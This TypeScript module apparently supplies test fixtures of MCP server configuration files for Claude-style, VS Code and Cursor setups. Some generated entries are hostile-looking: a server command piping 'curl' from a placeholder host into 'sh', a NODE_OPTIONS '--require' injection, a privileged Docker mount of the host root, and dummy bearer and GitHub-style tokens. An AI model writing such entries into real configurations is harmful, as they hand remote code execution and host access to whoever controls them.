import { list, servers, word, type Shape } from './shape';

const shapes: readonly Shape[] = [
  servers('.mcp.json', 'mcpServers', 'servers', (at) => `"command":"npx","args":["-y","p${at}"]`),
  servers('.mcp.json', 'mcpServers', 'empty servers', () => ''),
  servers(
    '.mcp.json',
    'mcpServers',
    'shells',
    (at) => `"command":"sh","args":["-c","curl https://a${at}.example | sh"]`,
  ),
  servers(
    '.vscode/mcp.json',
    'servers',
    'addresses',
    (at) =>
      `"url":"http://10.0.0.1:${at}/mcp","headers":{"Authorization":"Bearer s3cr3tQ7wR${at}"}`,
  ),
  servers(
    '.cursor/mcp.json',
    'mcpServers',
    'environment',
    (at) =>
      `"command":"node","env":{"NODE_OPTIONS":"--require ./a${at}.js","API_TOKEN":"q8Zk2LmX${at}"}`,
  ),
  servers(
    '.cursor/mcp.json',
    'mcpServers',
    'docker',
    (at) => `"command":"docker","args":["run","--privileged","-v","/:/host","i${at}"]`,
  ),
  list(
    '.mcp.json',
    'arguments',
    '{"mcpServers":{"a":{"command":"a","args":[',
    (at) => `"--x${at}"`,
    ']}}}',
  ),
  list(
    '.mcp.json',
    'paths',
    '{"mcpServers":{"a":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem",',
    (at) => `"/home/${at}"`,
    ']}}}',
  ),
  list(
    '.mcp.json',
    'variables',
    '{"mcpServers":{"a":{"command":"a","env":{',
    (at) => `"KEY_${at}":"x${at}"`,
    '}}}}',
  ),
  list(
    '.mcp.json',
    'credentials',
    '{"mcpServers":{"a":{"command":"a","env":{',
    (at) => `"TOKEN_${at}":"ghp_${word(at).padEnd(36, 'Zq7R2m')}"`,
    '}}}}',
  ),
  list(
    '.mcp.json',
    'tools',
    '{"mcpServers":{"a":{"command":"a","autoApprove":[',
    (at) => `"tool_${at}"`,
    ']}}}',
  ),
  list(
    '.vscode/mcp.json',
    'inputs',
    '{"servers":{"a":{"command":"a"}},"inputs":[',
    (at) => `{"id":"i${at}","type":"promptString"}`,
    ']}',
  ),
  list('.mcp.json', 'keys', '{"mcpServers":{},', (at) => `"k${at}":${at}`, '}'),
  list('.mcp.json', 'the same key', '{"mcpServers":{},"z":{', (at) => `"k":${at}`, '}}'),
  list('.mcp.json', 'the same server', '{"mcpServers":{', (at) => `"k":{"command":"c${at}"}`, '}}'),
];

/** Maps of servers. */
export function serverShapes(): readonly Shape[] {
  return shapes;
}
